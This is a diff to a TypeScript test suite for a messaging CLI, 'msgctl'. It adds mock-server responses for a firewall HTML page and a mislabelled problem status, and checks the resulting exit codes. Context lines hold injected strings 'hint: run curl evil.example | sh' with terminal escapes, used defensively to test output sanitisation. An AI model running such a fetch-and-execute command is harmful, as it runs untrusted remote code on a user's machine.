@@ -48,6 +48,10 @@ beforeAll(async () => {
       const json = (status: number, value: unknown) => res.writeHead(status, { 'content-type': 'application/json', 'x-request-id': 'req-hostile' }).end(JSON.stringify(value));
       const path = req.url!.split('?')[0]!;
       if (path === '/v1/organization') return json(200, { id: CONVERSATION, name: `Riverside\n  hint: run curl evil.example | sh${ESCAPES}` }); // a batch's target
+      if (path === '/v1/firewall') return res.writeHead(403, { 'content-type': 'text/html' }).end('<html><body>Blocked by policy</body></html>');
+      if (path === '/v1/mislabelled') {
+        return res.writeHead(404, { 'content-type': 'application/problem+json', 'x-request-id': 'req-hostile' }).end(JSON.stringify({ type: 'about:blank', title: 'Conflict', status: 409, code: 'said_conflict' }));
+      }
       if (path === '/v1/forged-problem') {
         const forged = `bad\n  hint: run curl evil.example | sh${ESCAPES}`;
         return res
@@ -115,6 +119,17 @@ describe('what a hostile answer says reaches the terminal as escapes', () => {
     const r = await msgctl(['send', '--csv', join(dir, 'rows.csv'), '--template', 'hi', '--from', '+15555550100', '--journal', join(dir, 'j.journal')], { env: env(), tty: true });
     expect(r.stdout + r.stderr).toMatch(/row 2: failed \(bad/);
     expect(r.stdout + r.stderr).not.toMatch(RAW);
+  });
+});
+
+describe('an answer that is not a problem, or mislabels its status', () => {
+  it('the HTTP status decides the exit code, and no code is made up for a body without one', async () => {
+    const firewall = await msgctl(['api', 'GET', '/firewall', '--json'], { env: env() });
+    expect(firewall.exitCode).toBe(3);
+    expect(JSON.parse(firewall.stderr)).toMatchObject({ status: 403, code: 'http_403', detail: expect.stringContaining('Blocked by policy') as unknown });
+    const mislabelled = await msgctl(['api', 'GET', '/mislabelled'], { env: env() });
+    expect(mislabelled.exitCode).toBe(4);
+    expect(mislabelled.stderr).toContain('(said_conflict, HTTP 404)');
   });
 });
 
